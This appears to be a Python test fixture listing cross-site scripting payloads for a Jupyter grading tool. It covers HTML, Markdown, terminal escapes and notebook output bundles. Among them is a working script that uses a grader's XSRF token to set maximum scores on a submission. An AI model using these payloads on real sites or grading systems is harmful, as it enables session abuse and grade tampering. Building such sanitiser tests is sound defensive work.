# ruff: noqa: E501
"""Payloads that act where they are not made inert: each would set a global and write through an API.

They follow the kinds of OWASP's list of ways around filters. ``HTML`` and ``MARKDOWN`` go by name; in each,
``@`` stands for the script that tells that it ran.
"""

import base64


def script(name):
    """JavaScript without double quotes, angle brackets and parentheses after a colon."""
    return f"top.fired='{name}';fetch('/api/contents?fired={name}')"


def payload(name, text):
    """A payload's text, with its own script in it."""
    return text.replace("@", script(name))


#: Gives the submission at hand full points and more, with the rights of whoever looks at it in formgrader.
SET_GRADES = (
    "(async()=>{const id=location.pathname.split('/submissions/')[1].split('/')[0];"
    "for(const g of await(await fetch('/formgrader/api/grades?submission_id='+id)).json())"
    "await fetch('/formgrader/api/grade/'+g.id,{method:'PUT',headers:{'X-XSRFToken':"
    "(document.cookie.match(/_xsrf=([^;]+)/)||[])[1],'Content-Type':'application/json'},"
    "body:JSON.stringify({manual_score:g.max_score,extra_credit:1})})})()"
)

HTML = {
    "script-grades": f"<script>@;{SET_GRADES}</script>",
    "img-grades": f'<img src=x onerror="@;{SET_GRADES}">',
    "script": "<script>@</script>",
    "script-case": "<ScRiPt >@</sCrIpT>",
    "script-broken": "<script\n>@</script\n>",
    "script-double": "<<script>@//<</script>",
    "script-nested": "<scr<script>ipt>@</scr</script>ipt>",
    "script-source": '<script src="/api/contents?fired=source"></script>',
    "script-module": '<script type="module">@</script>',
    "script-svg": "<svg><script>@</script></svg>",
    "script-after-title": "<title><style></title></style><script>@</script>",
    "img-onerror": '<img src=x onerror="@">',
    "img-slash": '<img/src="x"/onerror="@">',
    "img-no-quotes": "<img src=x onerror=top.fired='unquoted'>",
    "img-backticks": '<img src=`x` onerror="@">',
    "img-newline": '<img\nsrc=x\nonerror\n=\n"@">',
    "img-entities": '<img src=x onerror="&#116;op.fired=1">',
    "img-malformed": '<img """><script>@</script>">',
    "img-javascript": '<img src="javascript:@">',
    "img-lowsrc": '<img dynsrc="javascript:@" lowsrc="javascript:@">',
    "img-srcset": '<img srcset="/api/contents?fired=srcset 1x">',
    "img-remote": '<img src="/api/contents?fired=remote">',
    "img-data-html": '<img src="data:text/html,<script>@</script>" onload="@" onerror="@">',
    "svg-onload": '<svg onload="@"></svg>',
    "svg-slash": '<svg/onload="@">',
    "svg-animate": '<svg><animate onbegin="@" attributeName=x dur=1s></animate></svg>',
    "svg-set": '<svg><set onbegin="@" attributeName=x dur=1s></set></svg>',
    "svg-link": '<svg><a xlink:href="javascript:@"><text x=20 y=20>look</text></a></svg>',
    "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x onload=@ />#x"></use></svg>',
    "svg-foreign": '<svg><foreignObject><img src=x onerror="@"></foreignObject></svg>',
    "svg-image": '<svg><image href="/api/contents?fired=svg-image"></image></svg>',
    "iframe-javascript": '<iframe src="javascript:parent.@"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>@</script>"></iframe>',
    "iframe-onload": '<iframe onload="@"></iframe>',
    "frameset": '<frameset><frame src="javascript:@"></frameset>',
    "object-data": '<object data="data:text/html,<script>@</script>"></object>',
    "embed": '<embed src="javascript:@">',
    "applet": '<applet code="javascript:@"></applet>',
    "link-javascript": '<a href="javascript:@" id="pressme">look</a>',
    "link-case": '<a href=" jAvAsCrIpT:@">look</a>',
    "link-tab": '<a href="jav&#x09;ascript:@">look</a>',
    "link-newline": '<a href="jav\nascript:@">look</a>',
    "link-entities": '<a href="&#106;avascript&colon;@">look</a>',
    "link-control": '<a href="\x01javascript:@">look</a>',
    "link-data": '<a href="data:text/html,<script>@</script>">look</a>',
    "link-vbscript": '<a href="vbscript:@">look</a>',
    "link-blob": '<a href="blob:@">look</a>',
    "link-course-config": '<a href="/formgrader/?path=classroom/submitted/eve/resnet">look</a>',
    "link-ping": '<a href="#" ping="/api/contents?fired=ping">look</a>',
    "form-action": '<form action="javascript:@"><input type=submit value=look></form>',
    "form-api": '<form action="/api/contents" method=post><button>look</button></form>',
    "button-formaction": '<form><button formaction="javascript:@">look</button></form>',
    "input-image": '<input type=image src=x onerror="@">',
    "input-autofocus": '<input autofocus onfocus="@">',
    "select-autofocus": '<select autofocus onfocus="@"><option>1</select>',
    "textarea-autofocus": '<textarea autofocus onfocus="@"></textarea>',
    "keygen": '<keygen autofocus onfocus="@">',
    "details": '<details open ontoggle="@"><summary>look</summary></details>',
    "video": '<video><source onerror="@"></video>',
    "video-poster": '<video poster="/api/contents?fired=poster"></video>',
    "audio": '<audio src=x onerror="@"></audio>',
    "marquee": '<marquee onstart="@">look</marquee>',
    "body-onload": '<body onload="@">',
    "animation": '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="@">look</b>',
    "transition": '<b style="transition:all 1s" ontransitionend="@" onmouseover="@">look</b>',
    "pointer": '<b onpointerrawupdate="@" onmouseenter="@" onclick="@">look</b>',
    "contenteditable": '<b contenteditable autofocus tabindex=1 onfocus="@" onfocusin="@">look</b>',
    "popover": '<button popovertarget=x>look</button><b popover id=x onbeforetoggle="@">look</b>',
    "style-import": '<style>@import "/api/contents?fired=import";</style>',
    "style-url": '<b style="background:url(/api/contents?fired=style)">look</b>',
    "style-expression": '<b style="width:expression(@)">look</b>',
    "style-binding": '<b style="-moz-binding:url(/api/contents?fired=binding)">look</b>',
    "style-behaviour": '<b style="behavior:url(/api/contents?fired=behaviour)">look</b>',
    "style-list": '<ul style="list-style-image:url(/api/contents?fired=list)"><li>look</ul>',
    "style-cover": '<b style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:99">look</b>',
    "link-sheet": '<link rel=stylesheet href="/api/contents?fired=sheet">',
    "link-import": '<link rel=import href="/api/contents?fired=html-import">',
    "link-preload": '<link rel=preload as=image href="/api/contents?fired=preload" onload="@">',
    "meta-refresh": '<meta http-equiv=refresh content="0;url=javascript:@">',
    "meta-refresh-data": '<meta http-equiv=refresh content="1;url=data:text/html,<script>@</script>">',
    "meta-cookie": '<meta http-equiv=Set-Cookie content="fired=1">',
    "base": '<base href="/api/contents?fired=base/">',
    "table-background": '<table background="/api/contents?fired=table"><td background="/api/x">look</table>',
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=@>"></noscript>',
    "mutation-template": '<template><img src=x onerror="@"></template>',
    "mutation-shadow": '<div><template shadowrootmode=open><img src=x onerror="@"></template></div>',
    "mutation-math": '<math><mtext><table><mglyph><style><img src=x onerror="@"></style></mglyph></table>',
    "mutation-math-title": '<math><mi><b><mglyph><svg><style><!--</style><img title="--&gt;&lt;img src=x onerror=@&gt;">',
    "mutation-svg-style": '<svg></p><style><a id="</style><img src=x onerror=@>">',
    "mutation-comment": "<!--><img src=x onerror=@>-->",
    "mutation-condition": "<!--[if gte IE 4]><script>@</script><![endif]-->",
    "mutation-processing": '<?xml-stylesheet href="javascript:@"?><?<img src=x onerror=@>',
    "mutation-cdata": "<![CDATA[><img src=x onerror=@>]]>",
    "mutation-attribute": '<p title="</p><img src=x onerror=@>">',
    "mutation-plaintext": "<plaintext><img src=x onerror=@>",
    "mutation-xmp": '<xmp><p title="</xmp><img src=x onerror=@>"></xmp>',
    "clobber": '<form id=x><input name=attributes><input id=main-table></form><a id="statusmessage"></a>',
    "clobber-score": '<div class="nbgrader_cell"><input id="check_parabola" class="score tabbable"></div>',
    "data-link": '<a data-link="x" data-toggle="tooltip" data-html="true" title="<img src=x onerror=@>">look</a>',
    "bootstrap": '<b data-toggle="collapse" data-target="<img src=x onerror=@>">look</b>',
    "jupyter-command": '<button data-commandlinker-command="terminal:create-new">look</button>',
    "custom-element": '<x-look onclick="@" is="x">look</x-look>',
}
MARKDOWN = {
    "md-link": "[look](javascript:@)",
    "md-link-entities": "[look](&#106;avascript:@)",
    "md-link-angle": "[look](<javascript:@>)",
    "md-link-space": "[look]( javascript:@ 'title')",
    "md-link-data": "[look](data:text/html;base64,PHNjcmlwdD50b3AuZmlyZWQ9MTwvc2NyaXB0Pg==)",
    "md-link-api": "[look](/formgrader/?path=classroom/submitted/eve/resnet)",
    "md-reference": "[look][a]\n\n[a]: javascript:@ 'title'",
    "md-reference-short": "[look]\n\n[look]: javascript:@",
    "md-autolink": "<javascript:@>",
    "md-autolink-bare": "http://127.0.0.1:1/api/contents?fired=bare and www.example.org/fired",
    "md-image": "![look](/api/contents?fired=md-image)",
    "md-image-quote": '![look](x"onerror="@)',
    "md-image-title": "![look](x 'y\" onerror=\"@')",
    "md-image-reference": "![look][b]\n\n[b]: /api/contents?fired=md-reference",
    "md-image-attachment": "![look](attachment:missing.png)",
    "md-code": "`<img src=x onerror=@>` and ``` <img src=x onerror=@>",
    "md-code-open": "`\n\n<img src=x onerror=@>\n\n`",
    "md-fence": "```\n</code></pre><img src=x onerror=@>\n```",
    "md-fence-language": '```"><img src=x onerror=@>\ncode\n```',
    "md-mermaid": '```mermaid\ngraph TD\nA["<img src=x onerror=@>"]\nclick A "javascript:@"\n```',
    "md-math": "$<img src=x onerror=@>$ and $$<img src=x onerror=@>$$",
    "md-math-link": "$\\href{javascript:@}{look}$ and $\\style{background:url(/api/x)}{look}$",
    "md-math-environment": "\\begin{equation}<img src=x onerror=@>\\end{equation}",
    "md-math-code": "$`$<img src=x onerror=@>",
    "md-table": "| a | b |\n|---|---|\n| <img src=x onerror=@> | [look](javascript:@) |",
    "md-heading": "# attributes <img src=x onerror=@>\n\n# check_parabola",
    "md-list": "- <img src=x onerror=@>\n    <svg onload=@>",
    "md-quote": "> <img src=x onerror=@>",
    "md-definition": "term\n: <img src=x onerror=@>",
    "md-footnote": "look[^1]\n\n[^1]: <img src=x onerror=@>",
    "md-entity": "&lt;img src=x onerror=@&gt; &#60;img src=x onerror=@&#62;",
    "md-backslash": "\\<img src=x onerror=@> \\\\<img src=x onerror=@>",
    "md-null": "<\0img src=x onerror=@> <img\0 src=x onerror=@>",
    "md-comment": "<!-- --><img src=x onerror=@><!-- -->",
    "md-block": "<div>\n\n<img src=x onerror=@>\n\n</div>",
    "md-task": '- [ ] <input autofocus onfocus="@">',
    "md-tab": "\t<img src=x onerror=@>\n\n<img\tsrc=x\tonerror=@>",
}
TERMINAL = {
    "osc-link": "\x1b]8;;javascript:@\x1b\\look\x1b]8;;\x1b\\",
    "osc-title": "\x1b]0;@\x07title",
    "osc-open": "\x1b]8;;http://127.0.0.1:1/fired",
    "csi-clear": "\x1b[2J\x1b[H\x1b[?1049hcleared",
    "c1": "\x9b2J\x9d0;title\x9c",
    "dcs": "\x1bP+q544e\x1b\\\x1b_G@\x1b\\",
    "ansi-html": "\x1b[31m<img src=x onerror=@>\x1b[0m",
    "ansi-attribute": '\x1b[38;5;1"onmouseover="@m',
    "rich": "[link=javascript:@]look[/link][/b]",
    "override": "abc\u202edef",
    "address": "http://127.0.0.1:1/formgrader/?path=x",
}
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def encode(text):
    return base64.b64encode(text.encode()).decode()


ACTIVE_SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script("svg")}"><script>{script("svg")}</script></svg>'
)


def bundles():
    """Display data that acts by its kind, or by what stands beside it."""
    act = script
    return {
        "svg": ({"image/svg+xml": ACTIVE_SVG}, {}),
        "javascript": ({"application/javascript": act("javascript")}, {}),
        "latex": ({"text/latex": f"$\\href{{javascript:{act('latex')}}}{{look}}$"}, {}),
        "markdown": ({"text/markdown": f'<img src=x onerror="{act("markdown")}">'}, {}),
        "vega": (
            {
                "application/vnd.vegalite.v5+json": {
                    "data": {"url": "/api/contents?fired=vega"},
                    "mark": "bar",
                }
            },
            {},
        ),
        "plotly": (
            {"application/vnd.plotly.v1+json": {"data": [{"text": f"<img src=x onerror={act('plotly')}>"}]}},
            {},
        ),
        "bokeh": ({"application/vnd.bokehjs_exec.v0+json": "", "application/javascript": act("bokeh")}, {}),
        "widget": ({"application/vnd.jupyter.widget-view+json": {"model_id": "0" * 32}}, {}),
        "mermaid": ({"text/vnd.mermaid": f'graph TD\nclick A "javascript:{act("mermaid")}"'}, {}),
        "pdf": ({"application/pdf": encode("%PDF-1.4")}, {}),
        "json": ({"application/json": {"html": f"<img src=x onerror={act('json')}>"}}, {}),
        "geojson": ({"application/geo+json": {"type": "FeatureCollection", "features": []}}, {}),
        "xhtml": ({"application/xhtml+xml": f"<script>{act('xhtml')}</script>"}, {}),
        "odd-kind": ({f'"><img src=x onerror={act("kind")}>': "text"}, {}),
        "isolated": (
            {"text/html": f"<script>parent.{act('isolated')}</script>"},
            {"text/html": {"isolated": True}},
        ),
        "png-width": ({"image/png": PNG}, {"image/png": {"width": f"1 onerror={act('width')} src=x"}}),
        "png-alt": ({"image/png": PNG}, {"image/png": {"alt": f'"><img src=x onerror={act("alt")}>'}}),
        "png-quote": ({"image/png": f'{PNG}" onerror="{act("quote")}'}, {}),
        "png-svg": ({"image/png": encode(ACTIVE_SVG)}, {}),
        "png-file": ({"image/png": PNG}, {"filenames": {"image/png": "/api/contents?fired=file"}}),
        "jpeg-html": ({"image/jpeg": encode("<html>")}, {"image/jpeg": {"unconfined": True}}),
    }
